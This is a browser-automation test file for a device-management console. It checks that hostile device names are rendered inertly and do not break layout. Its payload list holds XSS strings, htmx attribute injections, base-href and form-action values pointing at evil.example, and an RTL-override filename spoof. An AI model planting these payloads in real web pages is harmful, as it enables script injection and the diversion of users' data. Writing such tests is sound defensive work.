import assert from "node:assert/strict";
import { CONSOLE, wide, narrow, control, newPage, look, step, expect, run } from "../lib.mjs";

const { page } = run;

await step("hostile names do nothing", async () => {
  const payloads = [
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "<svg onload=alert(1)>", "' onmouseover='alert(1)", '" autofocus onfocus="alert(1)',
    "javascript:alert(1)", '" hx-get="//evil.example" hx-trigger="load', '<div hx-get="/devices" hx-trigger="load[alert(1)]">', '<hx-partial hx-target="body">gone</hx-partial>',
    "<iframe srcdoc='<script>alert(1)</script>'>", "<style>body{display:none}</style>", "<base href=//evil.example/>", "</title><script>alert(1)</script>", "<form action=//evil.example>",
    "\u202egnp.exe", "\u2066x\u2069y", "z" + "\u0335".repeat(200), "w".repeat(4000), "line\nbreak", "${alert(1)}{{alert(1)}}",
  ];
  const ids = JSON.parse(await control("/hostile", JSON.stringify(payloads)));
  const stranger = await newPage();
  expect(/401/); // the page of signing in, in place of another
  for (const at of ["/sign-in", "/devices?q=" + encodeURIComponent(payloads[1])]) {
    await stranger.goto(CONSOLE + at);
    assert.equal(await stranger.locator('a[href^="/sign-in/with/"]').count(), payloads.length, at);
    assert.equal(await stranger.locator("iframe, main script, main style, base, main img").count(), 0, at);
    for (const size of [narrow, wide]) {
      await stranger.setViewportSize(size);
      const out = await stranger.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
      assert.ok(out <= 0, `${at} at ${size.width} px: ${out} px stick out`);
    }
  }
  await stranger.context().close();
  expect();
  for (const at of ["/devices?q=hostile", "/network", "/network/keys", "/settings/sign-in", "/account", "/people/waiting", ...ids.map((id) => "/devices/" + id)]) {
    await page.goto(CONSOLE + at);
    await page.locator("#live-state[data-state=on]").waitFor();
    for (const size of [narrow, wide]) {
      await page.setViewportSize(size);
      const out = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
      assert.ok(out <= 0, `${at} at ${size.width} px: ${out} px stick out`);
    }
    assert.ok(await page.locator("main h1").isVisible());
    assert.equal(await page.locator("iframe, main script, main style, base, main img").count(), 0, at);
    assert.ok(!/[\u202a-\u202e\u2066-\u2069]/.test(await page.textContent("body")), at);
  }
  await page.goto(CONSOLE + "/devices?q=hostile");
  await look(page, "hostile");
  await page.goto(CONSOLE + "/people/waiting");
  await page.getByText("Approve", { exact: true }).first().click();
  await look(page, "hostile-waiting");
  await page.goto(CONSOLE + "/account");
  await look(page, "hostile-account");
});
